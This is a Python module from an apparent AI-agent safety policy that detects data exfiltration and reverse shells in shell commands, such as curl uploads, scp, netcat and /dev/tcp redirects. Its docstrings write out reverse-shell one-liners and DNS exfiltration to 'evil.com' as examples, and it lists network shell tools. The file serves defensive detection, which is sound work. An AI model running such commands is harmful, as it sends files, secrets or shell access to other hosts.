"""Exfiltration and reverse shells: files, secrets or a shell handed to another host.

    curl -T f / -F x=@f / -d @f URL     wget --post-file=f URL       scp f host:   rsync -a d host:d
    nc host port < f                     socat FILE:f TCP:host:port   dig $(cat f).evil.com
    bash -i >& /dev/tcp/host/port 0>&1   nc -e /bin/sh host port      sh -i | nc host port

Every finding asks and names the host as a remote target (`remote:<host>`), so that yolo refuses it.
Loopback hosts (`localhost`, `127.0.0.1`, `::1`) are this machine: uploading to a local test server
is everyday work. Downloads are not judged here.
"""

from __future__ import annotations

import re
from collections.abc import Sequence

from asi_agent.policy.danger_common import Checker, RuleContext
from asi_agent.policy.danger_exec import SHELLS, family, program_source
from asi_agent.policy.danger_paths import Finding, ask, remote, worst
from asi_agent.policy.shell_scan import PLACEHOLDER

__all__ = ["NETWORK_RULES", "SOCKET_CLIENTS", "loopback", "pipeline_shell", "socket_redirect"]

SOCKET_CLIENTS = frozenset({"nc", "ncat", "netcat", "telnet", "openssl", "socat", "cryptcat", "pwncat"})
_LOOPBACK = re.compile(r"^(?:localhost|127(?:\.\d+){0,3}|::1|\[::1\]|0\.0\.0\.0|ip6-localhost)$", re.I)
_URL_HOST = re.compile(r"^[a-z][a-z0-9+.-]*://(?:[^@/?#]*@)?(?P<host>\[[^\]]*\]|[^:/?#]*)", re.I)
_SCP_REMOTE = re.compile(r"^(?:[^@/:]+@)?(?P<host>\[[^\]]+\]|[A-Za-z0-9_.-]+):(?!//)")
_DEV_SOCKET = re.compile(r"^/dev/(?:tcp|udp)/(?P<host>[^/]+)/")
_LITERAL_SENDERS = frozenset({"echo", "printf", "true", "yes"})
_HOST_PROGRAMS = frozenset({
    "dig", "host", "nslookup", "drill", "ping", "ping6", "whois", "traceroute", "tracepath", "mtr",
    "getent", "curl", "wget", "nc", "ncat", "netcat", "telnet", "ftp", "tftp", "ssh", "scp", "rsync",
})  # fmt: skip


def _host(text: str) -> str:
    """The host named by a URL, `user@host:path`, `host:port` or a bare name."""
    match = _URL_HOST.match(text) or _SCP_REMOTE.match(text)
    host = match["host"] if match else text.split("/", 1)[0].rsplit("@", 1)[-1].split(":", 1)[0]
    return host.strip("[]") or "another host"


def loopback(host: str) -> bool:
    """A name or address of this machine."""
    return _LOOPBACK.match(host) is not None


def _send(program: str, what: str, host: str) -> Finding | None:
    if loopback(host):
        return None
    return ask(f"{program} sends {what} to {host}: data leaves this machine", remote(host))


def _check_curl(args: Sequence[str], ctx: RuleContext) -> Finding | None:
    urls = [a for a in args if "://" in a] or [a for a in args if not a.startswith("-")][-1:]
    host = _host(urls[0]) if urls else "another host"
    sent: list[str] = []
    for index, arg in enumerate(args):
        name, eq, attached = arg.partition("=") if arg.startswith("--") else _curl_short(arg)
        value = attached if (eq or attached) else (args[index + 1] if index + 1 < len(args) else "")
        if name in ("-T", "--upload-file"):
            sent.append(value)
        elif name in ("-F", "--form") and re.search(r"=[@<]", value):
            sent.append(value.split("=", 1)[1][1:].split(";", 1)[0])
        elif name in ("-d", "--data", "--data-binary", "--data-urlencode", "--json") and (
            value.startswith("@") or (re.match(r"^[\w.-]*@", value) and name == "--data-urlencode")
        ):
            source = value.split("@", 1)[1]
            if source != "-" or (ctx.piped and not ctx.literal_input):
                sent.append(source if source != "-" else "its input")
        elif name in ("-d", "--data", "--data-binary", "--data-raw", "--json") and PLACEHOLDER in value:
            sent.append("the output of a command")
    if any(PLACEHOLDER in u for u in urls):
        sent.append("the output of a command (in the address)")
    return _send("curl", ", ".join(sent), host) if sent else None


def _curl_short(arg: str) -> tuple[str, str, str]:
    """A short option cluster (`-sT`, `-sSd@f`): the option that takes a value, and the value attached."""
    if not arg.startswith("-"):
        return "", "", ""
    for index, letter in enumerate(arg[1:], start=1):
        if letter in "TFdHoXuAexEbcKmrwYyzCPQ":
            return "-" + letter, "", arg[index + 1 :]
    return arg, "", ""


def _check_wget(args: Sequence[str], ctx: RuleContext) -> Finding | None:
    urls = [a for a in args if "://" in a] or [a for a in args if not a.startswith("-")][-1:]
    host = _host(urls[0]) if urls else "another host"
    sent = [a.split("=", 1)[1] for a in args if a.startswith(("--post-file=", "--body-file="))]
    sent += [args[i + 1] for i, a in enumerate(args[:-1]) if a in ("--post-file", "--body-file")]
    data = [a for a in args if a.startswith(("--post-data=", "--body-data=")) and PLACEHOLDER in a]
    sent += ["the output of a command"] * bool(data or any(PLACEHOLDER in u for u in urls))
    return _send("wget", ", ".join(sent), host) if sent else None


def _check_copy(args: Sequence[str], ctx: RuleContext) -> Finding | None:
    """scp and rsync: local files copied to another host (`scp f host:`, `rsync -a d host:d`)."""
    with_value = {
        "-P",
        "-i",
        "-o",
        "-S",
        "-F",
        "-J",
        "-l",
        "-c",
        "-e",
        "--rsh",
        "--port",
        "--exclude",
        "--include",
    }
    operands: list[str] = []
    skip = False
    for arg in args:
        if skip:
            skip = False
        elif arg.startswith("-"):
            skip = arg in with_value
        else:
            operands.append(arg)
    if len(operands) < 2:
        return None
    *sources, dest = operands
    remote_dest = _SCP_REMOTE.match(dest) or dest.startswith("rsync://") or "::" in dest
    local = [s for s in sources if not (_SCP_REMOTE.match(s) or s.startswith("rsync://"))]
    if not remote_dest or not local:
        return None
    host = _host(dest.split("::", 1)[0] if "::" in dest and "://" not in dest else dest)
    return _send(ctx.program, ", ".join(local), host)


def _check_socket_client(args: Sequence[str], ctx: RuleContext) -> Finding | None:
    """nc/ncat/telnet/openssl s_client: a shell behind `-e`, or a file or a command's output sent."""
    listening = any(a in ("-l", "--listen") or re.match(r"^-\w*l", a) for a in args)
    hosts = [a for a in args if not a.startswith("-") and not a.isdigit() and not re.match(r"^\d+-\d+$", a)]
    if ctx.program == "openssl":
        if args[:1] != ["s_client"]:
            return None
        hosts = [args[i + 1] for i, a in enumerate(args[:-1]) if a == "-connect"]
    host = "the network (listening)" if listening else _host(hosts[0]) if hosts else "another host"
    executes = any(a in ("-e", "-c", "--exec", "--sh-exec", "--lua-exec") for a in args)
    if executes:
        if loopback(host):
            return ask(f"{ctx.program} hands a program (a shell) to a network socket")
        return ask(f"{ctx.program} hands a shell to {host}: a reverse or bind shell", remote(host))
    if ctx.inputs or (ctx.piped and not ctx.literal_input):
        what = ", ".join(ctx.inputs) or "the output of another command"
        return (
            _send(ctx.program, what, host)
            if not listening
            else ask(f"{ctx.program} serves {what} to anyone who connects", remote(host))
        )
    return None


def _socat_host(address: str) -> str | None:
    kind, _, rest = address.partition(":")
    if kind.lower() in (
        "tcp",
        "tcp4",
        "tcp6",
        "tcp-connect",
        "udp",
        "udp4",
        "udp6",
        "openssl",
        "ssl",
        "udp-sendto",
    ):
        return _host(rest)
    if kind.lower().startswith(("tcp-listen", "tcp4-listen", "udp-listen", "openssl-listen", "ssl-l")):
        return "the network (listening)"
    return None


def _check_socat(args: Sequence[str], ctx: RuleContext) -> Finding | None:
    addresses = [a for a in args if not a.startswith("-") or a == "-"]
    hosts = [h for h in map(_socat_host, addresses) if h]
    if not hosts or all(loopback(h) for h in hosts):
        return None
    host = hosts[0]
    kinds = [a.split(":", 1)[0].lower() for a in addresses]
    if any(k in ("exec", "system") for k in kinds):
        return ask(f"socat hands a program (a shell) to {host}: a reverse or bind shell", remote(host))
    files = [
        a.split(":", 1)[1].split(",", 1)[0]
        for a in addresses
        if a.split(":", 1)[0].lower() in ("file", "open", "gopen")
    ]
    if files:
        return _send("socat", ", ".join(files), host)
    if "-" in addresses and (ctx.inputs or (ctx.piped and not ctx.literal_input)):
        return _send("socat", "its input", host)
    return None


def _check_ssh_input(args: Sequence[str], ctx: RuleContext) -> Finding | None:
    """`… | ssh host 'cat > f'`: input sent to a command on another machine."""
    operands = [a for a in args if not a.startswith("-")]
    if len(operands) < 2 or not (ctx.inputs or ctx.piped):
        return None
    return _send("ssh", ", ".join(ctx.inputs) or "its input", _host(operands[0]))


def _check_tar_remote(args: Sequence[str], ctx: RuleContext) -> Finding | None:
    """`tar cf user@host:/path …`: GNU tar writes a `host:path` archive on another host, through rsh/ssh."""
    first = args[0] if args and not args[0].startswith("-") else ""
    archives = [a.split("=", 1)[1] for a in args if a.startswith("--file=")]
    archives += [
        args[i + 1]
        for i, a in enumerate(args[:-1])
        if a in ("-f", "--file") or (a.startswith("-") and not a.startswith("--") and a.endswith("f"))
    ]
    if first and "f" in first and len(args) > 1:
        archives.append(args[1])
    creates = "c" in first or any(
        a in ("-c", "--create") or (a.startswith("-") and not a.startswith("--") and "c" in a) for a in args
    )
    remote_archive = next((a for a in archives if _SCP_REMOTE.match(a) and "--force-local" not in args), None)
    if not (remote_archive and creates):
        return None
    return _send(ctx.program, "an archive", _host(remote_archive))


def _check_built_host(args: Sequence[str], ctx: RuleContext) -> Finding | None:
    """A host name or address built from a command's output: `dig $(cat f | base64).evil.com`."""
    skip = {"-H", "--header", "-o", "--output", "-O", "-A", "--user-agent", "-i", "-p", "-P", "-e"}
    built = [
        a
        for i, a in enumerate(args)
        if PLACEHOLDER in a and not (i and args[i - 1] in skip) and not a.startswith("-")
    ]
    if not built:
        return None
    host = _host(built[0].replace(PLACEHOLDER, "x"))
    host = host.split(".", 1)[1] if host.startswith("x.") else host
    host = "a host named when it runs" if host in ("x", "") else host
    return _send(ctx.program, "the output of a command in a host name or address", host)


def _check_ztcp(args: Sequence[str], ctx: RuleContext) -> Finding | None:
    hosts = [a for a in args if not a.startswith("-") and not a.isdigit()]
    host = _host(hosts[0]) if hosts else "the network"
    return None if loopback(host) else ask("zsh's ztcp opens a connection to " + host, remote(host))


def socket_redirect(op: str, target: str, program: str) -> Finding | None:
    """A redirection to `/dev/tcp/host/port` or `/dev/udp/…`: bash's own network connections."""
    match = _DEV_SOCKET.match(target)
    if not match:
        return None
    host = match["host"]
    shell = family(program) == "sh" or program in ("exec", "")
    if loopback(host):
        return ask(f"connects a shell to the socket {target}") if shell and "<" in op else None
    what = "a shell" if shell else f"{program}'s data"
    return ask(f"connects {what} to {host} through {target}", remote(host))


def pipeline_shell(commands: Sequence[tuple[str, Sequence[str]]]) -> Finding | None:
    """A pipeline that joins a shell reading its input and a network client: a reverse shell."""
    shell = any(_reads_commands(program, argv) for program, argv in commands)
    clients = [(p, a) for p, a in commands if p in SOCKET_CLIENTS or (p == "busybox" and a[1:2] == ["nc"])]
    if not (shell and clients):
        return None
    program, argv = clients[0]
    operands = [a for a in argv[1:] if not a.startswith("-") and not a.isdigit() and a != "s_client"]
    connect = [argv[i + 1] for i, a in enumerate(argv[:-1]) if a == "-connect"]
    host = _host((connect or operands or ["another host"])[0])
    if loopback(host):
        return ask(f"pipes a shell through {program}: commands read from a socket")
    return ask(f"pipes a shell through {program} to {host}: a reverse shell", remote(host))


def _reads_commands(program: str, argv: Sequence[str]) -> bool:
    if program not in SHELLS and family(program) != "sh":
        return False
    kind, _ = program_source("sh", list(argv[1:]))
    return kind == "stdin"


def _chain(*checks: Checker) -> Checker:
    def check(args: Sequence[str], ctx: RuleContext) -> Finding | None:
        return worst(c(args, ctx) for c in checks)

    return check


NETWORK_RULES: dict[str, Checker] = {
    "curl": _chain(_check_curl, _check_built_host),
    "wget": _chain(_check_wget, _check_built_host),
    "scp": _chain(_check_copy, _check_built_host),
    "rsync": _check_copy,
    **dict.fromkeys(
        ("nc", "ncat", "netcat", "telnet", "openssl", "cryptcat"),
        _chain(_check_socket_client, _check_built_host),
    ),
    "socat": _check_socat,
    "ssh": _chain(_check_ssh_input, _check_built_host),
    "ztcp": _check_ztcp,
    **dict.fromkeys(("tar", "gtar"), _check_tar_remote),
    **dict.fromkeys(
        _HOST_PROGRAMS - {"curl", "wget", "scp", "rsync", "nc", "ncat", "netcat", "telnet", "ssh"},
        _check_built_host,
    ),
}
